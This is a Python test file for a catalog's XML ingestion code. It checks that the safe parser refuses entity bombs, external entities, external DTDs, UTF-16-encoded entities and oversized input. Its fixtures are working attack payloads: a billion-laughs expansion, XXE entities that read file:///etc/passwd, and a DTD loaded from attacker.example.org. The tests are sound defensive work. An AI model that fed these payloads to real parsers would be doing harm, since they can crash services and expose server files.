"""Untrusted XML: bombs, external entities and oversized documents are refused."""

import pytest

from crig.catalog.ingest.dcat import parse_dcat
from crig.catalog.ingest.errors import DocumentRefused, DocumentUnreadable
from crig.catalog.ingest.iso import parse_iso
from crig.catalog.ingest.safexml import parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<gmd:MD_Metadata xmlns:gmd="http://www.isotc211.org/2005/gmd">&lol9;</gmd:MD_Metadata>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<gmd:MD_Metadata xmlns:gmd="http://www.isotc211.org/2005/gmd"
  xmlns:gco="http://www.isotc211.org/2005/gco">
  <gmd:fileIdentifier><gco:CharacterString>&xxe;</gco:CharacterString></gmd:fileIdentifier>
</gmd:MD_Metadata>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE MD_Metadata SYSTEM "http://attacker.example.org/evil.dtd">
<MD_Metadata/>
"""

RDF_WITH_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rdf:RDF [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
  xmlns:dct="http://purl.org/dc/terms/">
  <rdf:Description rdf:about="http://x.org/1"><dct:title>&xxe;</dct:title></rdf:Description>
</rdf:RDF>
"""

REFUSAL = "The XML document declares entities or an external DTD; refused."


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_unsafe_xml_is_refused(document):
    with pytest.raises(DocumentRefused) as caught:
        parse_xml(document)

    assert caught.value.message == REFUSAL


def test_iso_parser_refuses_the_billion_laughs():
    with pytest.raises(DocumentRefused, match="declares entities"):
        parse_iso(BILLION_LAUGHS)


def test_iso_parser_refuses_an_external_entity():
    with pytest.raises(DocumentRefused, match="declares entities"):
        parse_iso(EXTERNAL_ENTITY)


def test_dcat_parser_refuses_an_external_entity_in_rdf_xml():
    with pytest.raises(DocumentRefused, match="declares entities"):
        parse_dcat(RDF_WITH_ENTITY, "application/rdf+xml")


def test_entities_in_utf16_are_refused_after_parsing():
    with pytest.raises(DocumentRefused):
        parse_xml(
            EXTERNAL_ENTITY.replace(
                b'version="1.0"?', b'version="1.0" encoding="UTF-16"?'
            )
            .decode()
            .encode("utf-16")
        )


def test_oversized_xml_is_refused():
    with pytest.raises(DocumentRefused) as caught:
        parse_xml(b"<a>" + b"x" * 2000 + b"</a>", max_bytes=1000)

    assert caught.value.message == "The XML document is larger than 1000 bytes."


def test_malformed_xml_is_unreadable():
    with pytest.raises(DocumentUnreadable, match="not well-formed XML"):
        parse_xml(b"<gmd:MD_Metadata><unclosed>")
